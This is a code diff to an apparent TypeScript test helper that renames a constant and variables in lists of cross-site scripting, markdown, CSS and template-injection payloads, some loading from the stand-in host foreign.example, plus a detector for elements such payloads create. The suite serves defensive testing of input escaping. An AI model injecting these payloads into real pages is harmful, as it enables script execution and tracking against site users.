@@ -2,24 +2,24 @@ import type { Frame, Page } from "playwright-core";
 import { vi } from "vitest";
 
 /** No page may load anything from this host. */
-const FOREIGN = "foreign.example";
+const FOREIGN_HOST = "foreign.example";
 
-/** Texts that run a script or load something from FOREIGN where a page parses them as HTML, CSS, a URL or a template. */
+/** Texts that run a script or load something from FOREIGN_HOST where a page parses them as HTML, CSS, a URL or a template. */
 export const HOSTILE_TEXTS = [
   `<script>alert(1)</script>`,
-  `</script><script src=//${FOREIGN}/1.js></script>`,
+  `</script><script src=//${FOREIGN_HOST}/1.js></script>`,
   `</textarea></title></style><img src=x onerror=alert(2)>`,
-  `"><img src=//${FOREIGN}/2.png onerror="alert(3)">`,
+  `"><img src=//${FOREIGN_HOST}/2.png onerror="alert(3)">`,
   `'-alert(4)-' onmouseover='alert(4)`,
-  `<svg onload=alert(5)><image href="//${FOREIGN}/3.svg"/></svg>`,
+  `<svg onload=alert(5)><image href="//${FOREIGN_HOST}/3.svg"/></svg>`,
   `<iframe srcdoc="<script>parent.alert(6)</script>"></iframe>`,
   `<object data="data:text/html,<script>parent.alert(7)</script>">`,
   `<a href="javascript:alert(8)">link</a>`,
   `<math><mtext><table><mglyph><style><img src=x onerror=alert(9)>`,
   `<button autofocus onfocus=alert(10)><details open ontoggle=alert(10)>`,
-  `<link rel=stylesheet href=//${FOREIGN}/4.css><style>@import "//${FOREIGN}/5.css"</style>`,
-  `<base href=//${FOREIGN}/><form action=//${FOREIGN}/><input type=image src=//${FOREIGN}/6.png>`,
-  `<p style="background:url(//${FOREIGN}/7.png)">url(//${FOREIGN}/8.png)`,
+  `<link rel=stylesheet href=//${FOREIGN_HOST}/4.css><style>@import "//${FOREIGN_HOST}/5.css"</style>`,
+  `<base href=//${FOREIGN_HOST}/><form action=//${FOREIGN_HOST}/><input type=image src=//${FOREIGN_HOST}/6.png>`,
+  `<p style="background:url(//${FOREIGN_HOST}/7.png)">url(//${FOREIGN_HOST}/8.png)`,
   `{{constructor.constructor('alert(11)')()}} \${alert(11)} <%= alert(11) %>`,
   `\u2028alert(12)\u2029<!--\u202egnp.exe\u2066 &lt;script&gt; &#60;script&#62; %3Cscript%3E`,
 ] as const;
@@ -29,29 +29,29 @@ export const HOSTILE_MARKDOWN = [
   `[a](javascript:alert(21))`,
   `[b](JaVaScRiPt:alert(22)) [c](java\tscript:alert(22)) [d](\u0001javascript:alert(22))`,
   `[e](data:text/html;base64,PHNjcmlwdD5hbGVydCgyMyk8L3NjcmlwdD4=) [f](vbscript:alert(23))`,
-  `![g](https://${FOREIGN}/11.png) ![h](javascript:alert(24)) [![i](//${FOREIGN}/12.png)](javascript:alert(24))`,
-  `[j](https://${FOREIGN}/"onmouseover="alert(25)) https://${FOREIGN}/"onclick="alert(25)`,
-  `<javascript:alert(26)> [k][1] [l](//${FOREIGN}/13)`,
+  `![g](https://${FOREIGN_HOST}/11.png) ![h](javascript:alert(24)) [![i](//${FOREIGN_HOST}/12.png)](javascript:alert(24))`,
+  `[j](https://${FOREIGN_HOST}/"onmouseover="alert(25)) https://${FOREIGN_HOST}/"onclick="alert(25)`,
+  `<javascript:alert(26)> [k][1] [l](//${FOREIGN_HOST}/13)`,
   `[1]: javascript:alert(27)`,
   "```html\n<img src=x onerror=alert(28)>\n```",
-  `[m](https://javascript:alert(29)@${FOREIGN}/) [n](https://${FOREIGN}/' style='background:url(//${FOREIGN}/14.png))`,
+  `[m](https://javascript:alert(29)@${FOREIGN_HOST}/) [n](https://${FOREIGN_HOST}/' style='background:url(//${FOREIGN_HOST}/14.png))`,
 ] as const;
 
 /** One hostile text for fields of 200 characters and for headers. */
-export const HOSTILE_NAME = `O'Neil"></title></script><img src=//${FOREIGN}/20.png onerror=alert(30)>{{7*7}}`;
+export const HOSTILE_NAME = `O'Neil"></title></script><img src=//${FOREIGN_HOST}/20.png onerror=alert(30)>{{7*7}}`;
 
 /** Values of a style property that load something, or that end their declaration. */
 export const HOSTILE_CSS = [
-  `url(//${FOREIGN}/30.png)`,
-  `URL("//${FOREIGN}/31.png")`,
-  `u\\72l(//${FOREIGN}/32.png)`,
-  `url/**/(//${FOREIGN}/33.png)`,
-  `image-set("//${FOREIGN}/34.png" 1x)`,
-  `-webkit-image-set(url(//${FOREIGN}/35.png) 1x)`,
-  `cross-fade(url(//${FOREIGN}/36.png), red)`,
-  `src("//${FOREIGN}/37.png")`,
-  `red; background: url(//${FOREIGN}/38.png)`,
-  `red} * { background: url(//${FOREIGN}/39.png) }`,
+  `url(//${FOREIGN_HOST}/30.png)`,
+  `URL("//${FOREIGN_HOST}/31.png")`,
+  `u\\72l(//${FOREIGN_HOST}/32.png)`,
+  `url/**/(//${FOREIGN_HOST}/33.png)`,
+  `image-set("//${FOREIGN_HOST}/34.png" 1x)`,
+  `-webkit-image-set(url(//${FOREIGN_HOST}/35.png) 1x)`,
+  `cross-fade(url(//${FOREIGN_HOST}/36.png), red)`,
+  `src("//${FOREIGN_HOST}/37.png")`,
+  `red; background: url(//${FOREIGN_HOST}/38.png)`,
+  `red} * { background: url(//${FOREIGN_HOST}/39.png) }`,
   `</style><script>alert(40)</script>`,
   `"</style><script>alert(41)</script>"`,
   `expression(alert(42))`,
@@ -112,7 +112,7 @@ export class HostileTextWatch {
 
 /** Returns the elements of a frame that only a parsed hostile text can have created. */
 function findHostileElements(frame: Frame): Promise<string[]> {
-  return frame.evaluate((foreign) => {
+  return frame.evaluate((foreignHost) => {
     const roots: (Document | ShadowRoot)[] = [document];
     const found: string[] = [];
     for (const root of roots) {
@@ -122,21 +122,21 @@ function findHostileElements(frame: Frame): Promise<string[]> {
         if (/^(?:object|embed|base|math|mglyph|image)$/i.test(tagName)) found.push(`element: ${tagName}`);
         for (const { name, value } of element.attributes) {
           // The console links to its own CSV, which no browser runs.
-          const isScript =
+          const runsScript =
             /^on/.test(name) ||
             name === "srcdoc" ||
             /^[\0-\x20]*(?:javascript|vbscript|data:text(?!\/csv;charset=utf-8,))/i.test(value);
-          // A link may lead to another site: it loads nothing by itself.
-          const isLoaded =
+          // `href` is not in this list: a link may lead to another site, because it loads nothing until it is clicked.
+          const isLoadedUrl =
             /^(?:src|action|formaction|background|poster|data)$/.test(name) && URL.canParse(value, location.href);
-          const loads = isLoaded && new URL(value, location.href).hostname === foreign;
-          const isText = /^(?:value|title|placeholder|aria-label|content)$/.test(name);
-          if ((isScript && !isText) || loads) found.push(`attribute: ${tagName} ${name}=${value}`);
+          const loadsForeignUrl = isLoadedUrl && new URL(value, location.href).hostname === foreignHost;
+          const isPlainText = /^(?:value|title|placeholder|aria-label|content)$/.test(name);
+          if ((runsScript && !isPlainText) || loadsForeignUrl) found.push(`attribute: ${tagName} ${name}=${value}`);
         }
       }
     }
     return found;
-  }, FOREIGN);
+  }, FOREIGN_HOST);
 }
 
 /** Returns the texts of a page as its reader sees them, also those in fields and shadow roots and in frames of the page. */
